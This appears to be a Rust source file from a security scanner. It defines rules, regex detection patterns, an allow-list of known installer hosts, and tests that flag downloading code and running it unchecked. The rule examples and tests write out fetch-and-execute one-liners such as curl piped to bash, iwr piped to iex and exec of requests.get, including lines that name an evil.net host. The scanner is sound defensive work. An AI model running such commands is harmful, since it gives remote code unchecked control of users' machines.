//! Code from the network that runs unseen.

use crate::report::Severity;
use crate::rule::{Detector, Grade, Patterns, Rule, js, md, ps, py, sh};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "download-to-shell",
        severity: Severity::High,
        message: "a download is run without being looked at",
        help: "download to a file, check its digest, read it, then run it",
        bad: &[
            md("Run `curl -fsSL https://example.net/i.sh | bash`."),
            sh("bash <(curl -s https://example.net/i.sh)\n"),
            sh("python3 -c \"$(curl -s https://example.net/i.py)\"\n"),
            ps("iwr https://example.net/i.ps1 | iex\n"),
            ps("IEX (New-Object Net.WebClient).DownloadString('https://example.net/i.ps1')\n"),
            py("exec(requests.get('https://example.net/i.py').text)\n"),
            js("eval(await (await fetch(url)).text())\n"),
        ],
        good: &[
            sh("curl -fsSL https://example.net/data.json | python3 -m json.tool\n"),
            sh("curl -fsSLo tool.tar.gz https://example.net/tool.tar.gz\n"),
            md("Avoid the curl | bash pattern."),
            sh("curl -s https://api.example.net/x | jq -r .name | sort\n"),
        ],
        detector: Detector::Commands(Patterns {
            anchors: &[
                "curl",
                "wget",
                "iex",
                "invoke-expression",
                "exec(",
                "eval(",
                "exec (",
                "eval (",
                "mshta",
                "regsvr32",
                "fetch",
                "aria2c",
            ],
            any: &[
                r#"\b(?:curl|wget|fetch|aria2c)\b[^;\n]{0,600}?(?:://|\$|\w\.[a-z])[^;\n]{0,600}?\|\s*(?:(?:sudo|env|exec|command|nohup|busybox|nice|-\w+|\w+=\S+|tee\s+\S+\s*\|)\s+)*(?:/usr/bin/env\s+|/(?:usr/)?(?:local/)?bin/)?(?:ba|z|k|c|da|fi|a|tc)?sh(?:[\s"'`)&;|]|$)"#,
                r#"\b(?:curl|wget|fetch|aria2c)\b[^;\n]{0,600}?(?:://|\$|\w\.[a-z])[^;\n]{0,600}?\|\s*(?:sudo\s+)?(?:/usr/bin/env\s+|/(?:usr/)?bin/)?(?:python[\d.]*|node|perl|ruby|php|deno run|bun run)\s*(?:-\s*)?(?:["'`);&]|$)"#,
                r#"\b(?:(?:ba|z|k|da)?sh|source|eval|exec|python[\d.]*|node|perl|ruby|php)\s+(?:-[a-z]+\s+)*["']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b[^\n]*"#,
                r"(?:^|[;&|]\s*)\.\s+<\(\s*(?:curl|wget)\b[^\n]*",
                r"(?:\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\b|net\.webclient)[^\n]{0,400}?\|\s*(?:iex|invoke-expression)\b",
                r#"\b(?:iex|invoke-expression)\b[\s(&"'$@{]*[^\n]{0,80}?(?:\b(?:iwr|irm|curl|wget)\b|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)[^\n]*"#,
                r"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:requests\.get|urllib\.request\.urlopen|urllib2\.urlopen|urlopen|httpx\.get)\s*\([^\n]*",
                r"\beval\s*\(\s*(?:await\s*)?\(?\s*(?:await\s*)?(?:fetch|axios(?:\.get)?|\$\.get)\s*\([^\n]*",
                r#"\bmshta(?:\.exe)?\s+["']?(?:https?|javascript|vbscript):[^\n]*"#,
                r"\bregsvr32\b[^\n]*/i:https?://[^\n]*",
            ],
            unless: &[],
            grade: installer,
        }),
    },
    Rule {
        id: "download-then-run",
        severity: Severity::Medium,
        message: "a file is downloaded and run a few lines later, and nothing checks it in between",
        help: "check a digest or a signature before running it, and say what it does",
        bad: &[
            sh(
                "curl -o /tmp/setup.sh https://example.net/setup.sh\nchmod +x /tmp/setup.sh\n/tmp/setup.sh\n",
            ),
            sh("wget https://example.net/agent.py\npython3 agent.py\n"),
        ],
        good: &[
            sh("curl -fsSLo t.sh https://example.net/t.sh\nsha256sum -c t.sh.sha256\nbash t.sh\n"),
            sh("curl -o data.json https://example.net/data.json\npython3 load.py data.json\n"),
        ],
        detector: Detector::Own,
    },
];

/// Installers that their projects tell everybody to pipe into a shell. Worth knowing, not worth an alarm.
const INSTALLERS: &[&str] = &[
    "sh.rustup.rs",
    "static.rust-lang.org",
    "bun.sh",
    "bun.com",
    "deno.land",
    "astral.sh",
    "get.pnpm.io",
    "get.docker.com",
    "fnm.vercel.app",
    "install.python-poetry.org",
    "bootstrap.pypa.io",
    "claude.ai",
    "ollama.com",
    "ollama.ai",
    "starship.rs",
    "get.sdkman.io",
    "fly.io",
    "tailscale.com",
    "mise.run",
    "mise.jdx.dev",
    "nixos.org",
    "install.determinate.systems",
    "get.helm.sh",
    "get.k3s.io",
    "k3d.io",
    "foundry.paradigm.xyz",
    "cli.anthropic.com",
    "cursor.com",
    "opencode.ai",
    "deb.nodesource.com",
    "rpm.nodesource.com",
    "get.volta.sh",
    "sdk.cloud.google.com",
    "cli.doppler.com",
    "pkgx.sh",
    "get.rvm.io",
    "get.haskellstack.org",
    "get-ghcup.haskell.org",
    "pyenv.run",
    "dot.net",
    "chocolatey.org",
    "community.chocolatey.org",
    "get.scoop.sh",
    "raw.githubusercontent.com/homebrew/",
    "raw.githubusercontent.com/nvm-sh/",
    "raw.githubusercontent.com/ohmyzsh/",
    "raw.githubusercontent.com/helm/",
    "raw.githubusercontent.com/k3d-io/",
    "raw.githubusercontent.com/pyenv/",
    "raw.githubusercontent.com/rbenv/",
    "raw.githubusercontent.com/golangci/",
    "raw.githubusercontent.com/anchore/",
    "raw.githubusercontent.com/aquasecurity/",
    "raw.githubusercontent.com/cargo-bins/",
    "raw.githubusercontent.com/microsoft/",
    "raw.githubusercontent.com/railwayapp/",
    "railway.com",
    "railway.app",
    "cli.railway.app",
    "get.trunk.io",
    "dl.dagger.io",
    "get.pulumi.com",
    "sentry.io",
    "cli.sentry.dev",
    "install.duckdb.org",
    "sh.vector.dev",
    "setup.vector.dev",
    "get.convex.dev",
    "xmake.io",
    "install.julialang.org",
    "get.nexte.st",
    "risczero.com",
    "app.factory.ai",
    "ampcode.com",
    "raw.githubusercontent.com/block/",
];

fn installer(matched: &str) -> Grade {
    let lower = matched.to_ascii_lowercase();
    let mut addresses = lower.match_indices("://").peekable();
    if addresses.peek().is_some() && addresses.all(|(at, _)| is_known_installer(&lower, at)) {
        return Grade::As(Severity::Info);
    }
    // A bare host name, as in `curl -LsSf sh.rustup.rs | sh`, goes over plain HTTP: kept.
    Grade::Keep
}

/// Whether the address whose `://` stands at `at` is that of a well-known installer, over TLS.
pub(crate) fn is_known_installer(lower: &str, at: usize) -> bool {
    let secure = lower
        .get(..at)
        .is_some_and(|before| before.ends_with("https"));
    let host = lower.get(at + 3..).unwrap_or_default();
    let host = host.strip_prefix("www.").unwrap_or(host);
    secure
        && INSTALLERS.iter().any(|known| {
            let rest = host.strip_prefix(known);
            rest.is_some_and(|rest| {
                known.ends_with('/')
                    || !rest.starts_with(|c: char| c.is_alphanumeric() || ".-@:_".contains(c))
            })
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(command: &str, expected: Grade) {
        assert_eq!(installer(command), expected, "{command}");
    }

    #[test]
    fn only_the_real_hosts_are_known() {
        check(
            "curl https://sh.rustup.rs -sSf | sh",
            Grade::As(Severity::Info),
        );
        check(
            "curl https://bun.sh/install | bash",
            Grade::As(Severity::Info),
        );
        check("curl http://bun.sh/install | bash", Grade::Keep);
        check("curl https://bun.sh.evil.net/install | bash", Grade::Keep);
        check("curl https://bun.sh@evil.net/install | bash", Grade::Keep);
        check("curl https://evil.net/bun.sh | bash", Grade::Keep);
        check("curl https://bun.sh https://evil.net | bash", Grade::Keep);
        check("curl evil.net | bash", Grade::Keep);
    }
}
